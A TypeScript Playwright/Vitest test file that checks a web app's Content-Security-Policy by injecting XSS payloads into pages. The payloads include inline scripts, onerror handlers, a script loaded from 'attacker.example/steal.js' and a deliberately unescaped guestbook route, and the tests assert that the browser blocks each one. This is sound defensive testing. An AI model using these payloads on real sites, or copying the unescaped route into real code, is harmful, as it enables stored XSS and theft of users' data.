import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeStrictContext, cspViolationsOf, hasChromium, newStrictContext, openBrowserOn, runAxe } from '../support/browser.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

const storedComment = 'Lovely mugs!<script>window.pwned = 6</script>';
const pwned = () => (globalThis as unknown as { pwned?: number }).pwned;

/**
 * The Content-Security-Policy as a browser enforces it: markup that reaches a page (here written into a
 * real response on its way to Chromium, or served by a page that forgot to escape, as a stored or reflected
 * injection would be) runs no script, and the browser reports each attempt as a violation.
 */
describe.runIf(hasChromium)('the CSP in a real browser', () => {
  let t: TestApp;
  let browser: Browser;
  let base: string;

  beforeAll(async () => {
    t = await createTestApp();
    // A page that shows a stored comment without escaping it: the stored-XSS bug the CSP is the last line
    // against. It goes through the app's own header hooks like every page.
    t.app.get('/test/guestbook', async (_request, reply) =>
      reply.type('text/html; charset=utf-8').send(`<!doctype html><html lang="en"><head><title>Guestbook</title></head><body><main><h1>Guestbook</h1><p>${storedComment}</p></main></body></html>`),
    );
    ({ browser, base } = await openBrowserOn(t.app));
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  it('refuses an inline script, an inline event handler and a foreign script injected into a rendered page, each reported as a violation', async () => {
    const context = await newStrictContext(browser);
    const page = await context.newPage();
    let policy: string | undefined;
    await page.route(`${base}/`, async (route) => {
      const response = await route.fetch();
      policy = response.headers()['content-security-policy'];
      const injected = [
        '<script>window.pwned = 1</script>',
        '<img src="/no-such-image.png" alt="" onerror="window.pwned = 2">',
        '<script src="https://attacker.example/steal.js"></script>',
      ].join('');
      const body = (await response.text()).replace('</main>', `${injected}</main>`);
      expect(body).toContain(injected);
      await route.fulfill({ response, body });
    });
    const res = await page.goto(`${base}/`, { waitUntil: 'load' });
    expect(res?.status()).toBe(200);
    // The policy is the server's own header, passed through untouched.
    expect(policy).toMatch(/(^|; )script-src 'self'(;|$)/);
    expect(await page.evaluate(pwned)).toBeUndefined();

    const violations = cspViolationsOf(context);
    await expect.poll(() => violations.filter((v) => v.startsWith('event: script-src-elem refused inline')).length).toBe(1);
    await expect.poll(() => violations.filter((v) => v.startsWith('event: script-src-attr refused inline')).length).toBe(1);
    await expect.poll(() => violations.filter((v) => v.startsWith('event: script-src-elem refused https://attacker.example/steal.js')).length).toBe(1);
    expect(violations.filter((v) => v.startsWith('console:')).length).toBeGreaterThanOrEqual(3);
    await context.close();
  });

  it('refuses a stored script in a page served by the app itself, under its own headers', async () => {
    const context = await newStrictContext(browser);
    const page = await context.newPage();
    const res = await page.goto(`${base}/test/guestbook`);
    expect(res?.headers()['content-security-policy']).toMatch(/(^|; )script-src 'self'(;|$)/);
    expect(await page.getByRole('heading', { name: 'Guestbook' }).isVisible()).toBe(true);
    expect(await page.evaluate(pwned)).toBeUndefined();
    expect(res?.headers()['reporting-endpoints']).toBe('csp="/csp-report"');
    await expect.poll(() => cspViolationsOf(context).filter((v) => v.startsWith('event: script-src-elem refused inline')).length).toBe(1);
    expect(cspViolationsOf(context).some((v) => v.startsWith('console: ') && v.includes("script-src 'self'"))).toBe(true);
    await context.close();
  });

  it('refuses a script tag added to the live page, while axe runs through page.evaluate without any violation', async () => {
    const context = await newStrictContext(browser);
    const page = await context.newPage();
    await page.goto(`${base}/`);
    await page.addScriptTag({ content: 'window.pwned = 3' }).catch(() => undefined);
    expect(await page.evaluate(pwned)).toBeUndefined();
    await expect.poll(() => cspViolationsOf(context).some((v) => v.startsWith('event: script-src-elem refused inline'))).toBe(true);

    const clean = await newStrictContext(browser);
    const axePage = await clean.newPage();
    await axePage.goto(`${base}/p/organic-cotton-tee`);
    expect(Array.isArray(await runAxe(axePage))).toBe(true);
    expect(await axePage.evaluate(() => typeof (globalThis as unknown as { axe?: unknown }).axe)).toBe('object');
    await context.close();
    await closeStrictContext(clean);
  });

  it('shows markup typed into the search box as text: no element, no script, no violation', async () => {
    const context = await newStrictContext(browser);
    const page = await context.newPage();
    const probe = '<script>window.pwned=4</script><img src=x onerror=window.pwned=5>';
    await page.goto(`${base}/search?q=${encodeURIComponent(probe)}`);
    expect(await page.evaluate(pwned)).toBeUndefined();
    expect(await page.locator('main script, main img[src="x"]').count()).toBe(0);
    await closeStrictContext(context);
  });
});
